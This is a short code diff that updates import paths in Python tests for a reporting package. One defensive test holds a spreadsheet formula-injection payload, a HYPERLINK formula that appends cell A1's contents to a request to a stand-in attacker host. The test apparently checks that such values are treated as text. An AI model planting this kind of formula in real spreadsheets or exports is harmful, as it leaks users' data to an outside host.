@@ -37,7 +37,7 @@ def report_inputs(store_folder: Path, definitions):
     from csc_perf.methods.highlights import build_highlights
     from csc_perf.methods.results import compute_results
     from csc_perf.render.results import report_frame, report_months
-    from csc_perf.store import Store
+    from csc_perf.store.core import Store
 
     observations = Store(store_folder).observations()
     stored = observations.get_column("month").unique().to_list()
@@ -223,7 +223,7 @@ def test_highlights_under_each_theme_table(book):
 
 
 def test_hostile_indicator_name_is_text_not_a_formula(full_store_template):
-    from csc_perf.definitions import parse_definitions
+    from csc_perf.definitions.loading import parse_definitions
 
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
     text = (ROOT / "indicators.toml").read_text(encoding="utf-8")
